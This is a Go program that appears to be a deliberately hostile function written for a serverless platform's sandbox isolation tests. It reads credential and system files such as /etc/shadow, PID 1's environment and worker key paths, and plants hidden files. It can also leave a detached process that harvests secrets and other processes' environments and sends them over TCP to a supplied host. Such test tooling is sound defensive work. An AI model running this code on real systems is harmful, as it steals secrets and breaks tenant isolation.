// Command attacker is a hostile user function for the security tests: it
// reports who it runs as and everything it can read that it should not
// (the kernel command line, PID 1's environment and files, the worker's
// key, block devices, other processes), and can leave a process behind
// that keeps looking for the next job's secrets and phones home.
//
// Request (stdin, JSON): {"linger": "HOST:PORT"} to leave a process behind
// that reports to HOST:PORT ("stay_ms": N to wait N ms before exiting, so
// the leftover can report during the job); "read": [paths] to try more
// files; {} to only report.
package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

type report struct {
	UID, GID, PID int
	Hostname      string
	Status        map[string]string // CapEff, CapBnd, CapPrm, NoNewPrivs, Seccomp from /proc/self/status
	Environ       []string
	Reads         map[string]string // path -> content (cut) or "ERR: ..."
	BlockDevices  []string          // block device nodes found under /dev
	Processes     []string          // "pid:comm" of every process in /proc
	Wrote         map[string]string // path -> "ok" or error: places a leftover could hide
	Lingering     string            `json:",omitempty"`
}

// targets are files an attacker reads for keys or the worker's secrets.
var targets = []string{
	"/proc/cmdline", "/proc/1/cmdline", "/proc/1/environ", "/proc/1/maps",
	"/proc/1/root/run/mf/key", "/proc/1/root/proc/cmdline", "/run/mf/key", "/mf/key",
	"/proc/keys", "/proc/partitions", "/sys/firmware/qemu_fw_cfg/by_name/opt/mf/key/raw",
	"/init", "/dev/vda", "/dev/sda", "/dev/mmcblk0", "/dev/mmcblk0p1", "/dev/mem", "/dev/kmsg",
	"/sys/block", "/etc/shadow",
}

func read(p string) string {
	fi, err := os.Stat(p)
	if err != nil {
		return "ERR: " + err.Error()
	}
	if fi.IsDir() {
		ents, err := os.ReadDir(p)
		if err != nil {
			return "ERR: " + err.Error()
		}
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		return "DIR: " + strings.Join(names, " ")
	}
	f, err := os.Open(p)
	if err != nil {
		return "ERR: " + err.Error()
	}
	defer f.Close()
	b := make([]byte, 4096)
	n, err := f.Read(b)
	if n == 0 && err != nil && err != io.EOF {
		return "ERR: " + err.Error()
	}
	return string(b[:n])
}

func main() {
	if len(os.Args) == 3 && os.Args[1] == "linger" {
		linger(os.Args[2])
		return
	}
	var req struct {
		Linger string
		Read   []string // more paths to try
		StayMS int      `json:"stay_ms"` // stay this long after starting the leftover
	}
	json.NewDecoder(os.Stdin).Decode(&req)
	host, _ := os.Hostname()
	r := report{UID: os.Getuid(), GID: os.Getgid(), PID: os.Getpid(), Hostname: host, Environ: os.Environ(),
		Status: map[string]string{}, Reads: map[string]string{}, Wrote: map[string]string{}}
	for _, line := range strings.Split(read("/proc/self/status"), "\n") {
		k, v, _ := strings.Cut(line, ":")
		switch k {
		case "CapEff", "CapBnd", "CapPrm", "NoNewPrivs", "Seccomp":
			r.Status[k] = strings.TrimSpace(v)
		}
	}
	for _, p := range append(targets, req.Read...) {
		r.Reads[p] = read(p)
	}
	filepath.WalkDir("/dev", func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type()&os.ModeDevice != 0 && d.Type()&os.ModeCharDevice == 0 {
			r.BlockDevices = append(r.BlockDevices, p)
		}
		return nil
	})
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if e.Name()[0] >= '0' && e.Name()[0] <= '9' {
			r.Processes = append(r.Processes, e.Name()+":"+strings.TrimSpace(read("/proc/"+e.Name()+"/comm")))
		}
	}
	for _, p := range []string{"/tmp/.leftover", "/functions/.leftover", "/.leftover", "/run/.leftover"} {
		if err := os.WriteFile(p, []byte("x"), 0o644); err != nil {
			r.Wrote[p] = err.Error()
		} else {
			r.Wrote[p] = "ok"
		}
	}
	if req.Linger != "" {
		cmd := exec.Command("/proc/self/exe", "linger", req.Linger)
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := cmd.Start(); err != nil {
			r.Lingering = "ERR: " + err.Error()
		} else {
			r.Lingering = fmt.Sprint(cmd.Process.Pid)
		}
	}
	json.NewEncoder(os.Stdout).Encode(r)
	time.Sleep(time.Duration(req.StayMS) * time.Millisecond)
}

// linger outlives its job for up to 60 s, reporting what it sees: the
// secrets directory and every process's environment, i.e. the next job's.
func linger(addr string) {
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		var seen []string
		if ents, err := os.ReadDir("/var/openfaas/secrets"); err == nil {
			for _, e := range ents {
				seen = append(seen, e.Name()+"="+read("/var/openfaas/secrets/"+e.Name()))
			}
		}
		procs, _ := filepath.Glob("/proc/[0-9]*/environ")
		for _, p := range procs {
			if s := read(p); !strings.HasPrefix(s, "ERR") {
				seen = append(seen, p+"="+strings.ReplaceAll(s, "\x00", " "))
			}
		}
		if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
			fmt.Fprintf(c, "alive pid=%d %s\n", os.Getpid(), strings.Join(seen, " | "))
			c.Close()
		}
		time.Sleep(100 * time.Millisecond)
	}
}
